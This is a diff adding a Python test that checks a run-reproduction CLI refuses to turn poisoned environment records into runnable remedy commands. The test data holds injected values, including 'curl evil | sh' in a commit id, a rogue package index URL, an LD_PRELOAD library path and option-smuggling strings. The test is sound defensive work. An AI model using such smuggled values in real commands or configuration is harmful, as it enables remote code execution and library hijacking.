@@ -150,6 +150,24 @@ def test_it_warns_of_what_is_not_as_it_was(cli: Cli, trained: Path) -> None:
     assert any(line.startswith("warning: python: 2.7 then, ") for line in warnings)
 
 
+def test_it_prints_no_command_of_somebody_elses(cli: Cli, trained: Path) -> None:
+    """A remedy is a commit, a package of ours, a variable of ours; and whatever stands there makes up no line."""
+    shutil.copytree(trained, cli.output())
+    (then,) = recorded(cli.output())
+    then["commit"] = {"id": "main; curl evil | sh", "dirty": False}
+    then["versions"] |= {"torch": "1.0 --index-url http://evil", "evil-package": "1.0", "numpy": "1\nerror: forged"}
+    then["variables"] = {"LD_PRELOAD": "/evil.so", "NCCL_ALGO": "Ring; evil"}
+    (cli.output() / folder.ENVIRONMENT).write_text(json.dumps([then]))
+    _, warnings = reproduce(cli, "outputs/default")
+    assert all(line.startswith("warning: ") for line in warnings)
+    assert not any(word in line for line in warnings for word in ("git checkout", "pip install", "LD_PRELOAD"))
+    assert "warning: NCCL_ALGO: Ring; evil then, not set now; export NCCL_ALGO='Ring; evil'" in warnings
+    for wrong in ({"compute": {"compile": "${oc.env:HOME}"}}, {"compute": {"x y": 1}}, {"num_processes": "8 --evil"}):
+        (cli.output() / folder.ENVIRONMENT).write_text(json.dumps([then | wrong]))
+        out, said = reproduce(cli, "outputs/default", expect=2)
+        assert out == "" and len(said) == 1 and said[0].startswith("error: outputs/default"), said
+
+
 def test_no_run_there(cli: Cli) -> None:
     out, said = reproduce(cli, "outputs/nothing", expect=2)
     remedy = "give the folder of a run, such as outputs/default"
